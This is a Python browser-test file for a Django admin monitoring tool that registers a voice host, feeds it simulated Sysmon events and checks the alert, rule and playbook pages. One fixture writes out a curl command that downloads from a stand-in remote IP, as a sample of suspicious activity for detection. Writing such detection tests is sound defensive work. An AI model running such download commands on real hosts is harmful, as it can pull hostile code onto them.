"""The officer's pages about voice hosts in a real browser: accessible, in bounds, in both languages."""

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import App
from guard.models import Alert, Host
from guard.register_host import register_host
from tests.config.test_admin_guard import DROPPED, PYTHON, SHELL, sent, sysmon
from tests.factories import OfficerFactory
from tests.portal.conftest import _compiled, browser, site, window  # noqa: F401
from tests.portal.look import VIEWS
from tests.portal.look import look_at_office as look  # noqa: F401 - a fixture
from tests.portal.scene import live

pytestmark = pytest.mark.browser
FETCH = {
    "ProcessGuid": "{cc}",
    "ProcessId": 12,
    "Image": r"C:\Windows\System32\curl.exe",
    "CommandLine": "curl -o x https://203.0.113.9/" + "a" * 300,
    "ParentProcessGuid": "{bb}",
}
CALLED = {
    "ProcessGuid": "{cc}",
    "ProcessId": 12,
    "Image": FETCH["Image"],
    "Initiated": "true",
    "Protocol": "tcp",
    "DestinationIp": "203.0.113.9",
    "DestinationPort": 443,
}


def scene():
    live(timezone.now())
    host = register_host(
        app=App.objects.order_by("id").first(),
        name="tts-1",
        profile="indextts",
        timezone="Asia/Shanghai",
        actor="operator",
        now=timezone.now(),
    )
    rows = [sysmon(code, **data) for code, data in ((1, SHELL), (1, PYTHON), (1, FETCH), (3, CALLED), (11, DROPPED))]
    assert sent(host, *rows, b"nonsense").status_code == 200


@pytest.mark.parametrize(("size", "language"), VIEWS.values(), ids=VIEWS)
def test_the_pages_of_hosts(window, look, size, language):  # noqa: F811
    scene()
    page = window(user=OfficerFactory(), size=size, language=language)
    for name, path in {
        "admin-hosts": reverse("admin:guard_host_changelist"),
        "admin-host": reverse("admin:guard_host_change", args=[Host.objects.get().id]),
        "admin-new-host": reverse("admin:guard_host_new"),
        "admin-alerts": reverse("admin:guard_alert_changelist"),
        "admin-alert": reverse("admin:guard_alert_change", args=[Alert.objects.get(rule="python_writes_program").id]),
        "admin-rules": reverse("admin:guard_rulestate_changelist"),
        "admin-rule": reverse("admin:guard_rulestate_change", args=["python_writes_program"]),
        "admin-playbooks": reverse("admin:guard_playbook_changelist"),
        "admin-playbook": reverse("admin:guard_playbook_change", args=["critical"]),
    }.items():
        page.goto(path)
        look(page, name, size=size, language=language)
    page.goto(reverse("admin:guard_rulestate_change", args=["python_writes_program"]))
    page.click("form[action*='/test/'] [type=submit]")
    look(page, "admin-rule-tested", size=size, language=language)


def test_an_officer_undoes_what_was_done(window):  # noqa: F811
    scene()
    page = window(user=OfficerFactory())
    page.goto(reverse("admin:guard_alert_changelist") + "?level__exact=critical")
    page.click("#result_list tbody th a")
    page.select_option("[name=reason]", "planned")
    page.click("form[action$='/undo/'] [type=submit]")
    page.wait_for_selector("text=Undone.")
    assert Alert.objects.get(rule="python_writes_program").state == "undone"
